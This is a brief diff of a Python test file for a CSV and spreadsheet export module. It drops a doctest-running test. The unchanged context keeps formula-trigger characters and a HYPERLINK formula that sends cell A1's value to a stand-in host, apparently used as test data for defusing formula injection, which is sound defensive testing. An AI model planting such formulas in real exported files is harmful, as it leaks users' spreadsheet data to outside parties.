@@ -1,5 +1,4 @@
 import csv
-import doctest
 from datetime import date, datetime
 from decimal import Decimal
 from time import perf_counter
@@ -20,10 +19,6 @@ from smm_analysis.tables.exporting import CELL, defused, export_table, export_ta
 
 LEADS = "=+-@＝＋－＠"
 HYPERLINK = '=HYPERLINK("http://a.example/?"&A1,"click")'
-
-
-def test_doctests_show_what_the_functions_return():
-    assert doctest.testmod(exporting).failed == 0
 
 
 @pytest.fixture(scope="module")
